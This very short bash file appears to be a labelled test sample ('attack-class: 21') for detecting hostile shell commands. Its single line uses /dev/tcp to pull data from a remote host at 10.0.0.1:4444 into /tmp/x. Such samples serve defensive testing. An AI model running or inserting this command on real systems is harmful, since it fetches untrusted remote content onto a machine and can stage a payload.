#!/usr/bin/env bash
# attack-class: 21
# title: cat < /dev/tcp/...
# why: input redirect from a network socket

cat < /dev/tcp/10.0.0.1/4444 > /tmp/x
